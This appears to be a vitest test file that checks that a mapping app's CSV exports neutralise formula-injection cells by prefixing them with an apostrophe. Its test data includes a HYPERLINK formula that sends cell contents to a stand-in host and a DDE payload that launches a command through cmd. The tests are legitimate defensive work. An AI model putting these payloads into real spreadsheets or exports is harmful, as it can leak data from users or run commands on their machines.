/**
 * Output is input to someone else: a cell that starts with = + - @ (or a tab or return) is run by
 * Excel as a formula. Every CSV the app writes (the project table, the change log; the layer
 * export has its own test) prefixes it with ' as OWASP advises.
 */
import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import type { Feature } from 'geojson';
import { projectsCsv } from '../../../src/stats/exportTable';
import { changeLogRows } from '../../../src/edit/changeLog';

const HOSTILE = ['=HYPERLINK("https://evil.example/?leak="&A1)', '+1+1', '-2+3', '@SUM(A1)', '\t=1'];
const cells = (csv: string) => Papa.parse<string[]>(csv.replace(/^\uFEFF/, '')).data.flat();

describe('CSV formula injection', () => {
  it('the project table escapes every hostile cell', () => {
    const features = HOSTILE.map((name, i): Feature => ({ type: 'Feature', properties: { id: `p001-00${i}`, name_zh: name, name_en: name, category: '产业' }, geometry: { type: 'Point', coordinates: [120.6, 28] } }));
    const out = cells(projectsCsv(features));
    for (const h of HOSTILE) {
      expect(out).not.toContain(h);
      expect(out).toContain(`'${h}`);
    }
  });

  it('the change log escapes the editor’s name and note', () => {
    const rows = changeLogRows('rail/stations.geojson', [{ label: { zh: '', en: '' }, changes: [{ kind: 'geometry', id: 's1-station-01', index: 0, before: null, after: null }], who: '=cmd|"/c calc"!A1', at: '2026-12-03T09:30:00.000Z', note: '@SUM(A1)' }]);
    const out = cells(rows.join('\n'));
    expect(out).toContain(`'=cmd|"/c calc"!A1`);
    expect(out).toContain(`'@SUM(A1)`);
  });
});
